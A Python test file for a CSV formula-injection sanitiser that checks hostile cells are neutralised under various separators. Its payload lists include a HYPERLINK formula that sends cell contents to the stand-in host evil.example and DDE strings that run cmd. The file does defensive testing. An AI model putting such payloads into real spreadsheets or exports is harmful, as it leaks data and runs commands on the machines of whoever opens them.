"""Cells that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labelloop.pool.formulas import as_it_was, looks_like_formula, safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+",
    "-",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff@A1",
    "\x0b=1+1",
    " \u200b' =1+1",
    "  -5",
    "-5-A1",
]
HARMLESS = ["", "text", "a = b", "-5", "+5", "-0.25", "-1e-05", "1e5+A1", "'tis", "5 > 4", "'", "x-ray"]
MOVED = [
    "x;=1+1",
    "x;=1+1;y",
    'x"=1+1',
    "x\r\n=1+1",
    "x\t@A1",
    "x|-A1",
    "x,=1",
    'x";"=1+1',
    "x;'=1+1",
    "x; =1+1",
    "x,\u200b=1",
]
PARTS = [
    "=",
    "+",
    "-",
    "@",
    "'",
    "\u200b",
    '"',
    ";",
    ",",
    "\t",
    "\r",
    "\n",
    "|",
    "＝",
    "5",
    ".",
    "e",
    "x",
    " ",
]


def cells(text: str, separator: str) -> list[str]:
    """The cells of a line that was written with commas, as another separator splits it."""
    line = io.StringIO(newline="")
    csv.writer(line, quoting=csv.QUOTE_ALL).writerow(["before", text, "after"])
    line.seek(0)
    return [cell for row in csv.reader(line, delimiter=separator) for cell in row]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_begins_like_a_formula_begins_otherwise(cell: str) -> None:
    assert safe(cell).startswith("'")
    assert not looks_like_formula(safe(cell))


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_and_numbers_stay_as_they_are(cell: str) -> None:
    assert safe(cell) == cell
    assert not looks_like_formula(cell)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("cell", HOSTILE + MOVED)
def test_no_cell_is_a_formula_whatever_separates_the_file_for_a_spreadsheet(
    cell: str, separator: str
) -> None:
    assert [each for each in cells(safe(cell), separator) if looks_like_formula(each)] == []


@given(st.one_of(st.text(), st.lists(st.sampled_from(PARTS)).map("".join)))
def test_every_cell_is_read_back_and_none_is_left_to_run(cell: str) -> None:
    assert as_it_was(safe(cell)) == cell
    assert not looks_like_formula(safe(cell))
